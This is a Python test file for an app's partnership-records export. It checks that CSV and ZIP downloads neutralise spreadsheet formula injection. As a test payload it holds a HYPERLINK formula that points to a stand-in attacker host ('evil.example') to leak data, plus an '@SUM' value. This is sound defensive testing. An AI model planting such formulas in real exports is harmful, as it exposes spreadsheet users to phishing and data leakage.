"""The ZIP download of a record whose title is a formula: the CSV inside stays inert (a process of its own: the app
serves the record of the process it runs in)."""

import csv
import io
import os
import shutil
import subprocess
import sys
import zipfile

from tests.support import ROOT

# Run in a child process: the app loads its dataset once per process, and this test needs a record
# whose title is a formula. The child serves the real route on a copy of data/ with that one change.
CHILD = """
import sys
from pathlib import Path
import app
client = app.server.test_client()
out = Path(sys.argv[1])
for ext in ("zip", "csv"):
    response = client.get("/api/partnerships." + ext + "?city=singapore")
    assert response.status_code == 200, response.data
    (out / ("got." + ext)).write_bytes(response.data)
"""


def test_a_title_that_is_a_formula_stays_inert_in_the_zips_csv(tmp_path):
    data = tmp_path / "data"
    shutil.copytree(ROOT / "data", data)
    with open(data / "partnerships.csv", encoding="utf-8", newline="") as handle:
        table = list(csv.DictReader(handle))
    formula = '=HYPERLINK("https://evil.example/?leak=1","Click")'
    table[0]["title"] = formula  # partnership 1, in Singapore
    table[0]["notes"] = "@SUM(1+1)"
    with open(data / "partnerships.csv", "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(table[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(table)

    env = {**os.environ, "ASCN_DATA_DIR": str(data)}
    done = subprocess.run([sys.executable, "-c", CHILD, str(tmp_path)], cwd=ROOT, env=env, capture_output=True, text=True, timeout=180)
    assert done.returncode == 0, done.stderr[-3000:]

    archive = zipfile.ZipFile(tmp_path / "got.zip")
    from_zip = archive.read("partnerships.csv")
    assert from_zip == (tmp_path / "got.csv").read_bytes()
    rows = {r["partnership_id"]: r for r in csv.DictReader(io.StringIO(from_zip.decode("utf-8")))}
    assert rows["1"]["title"] == "'" + formula
    assert rows["1"]["notes"] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values())

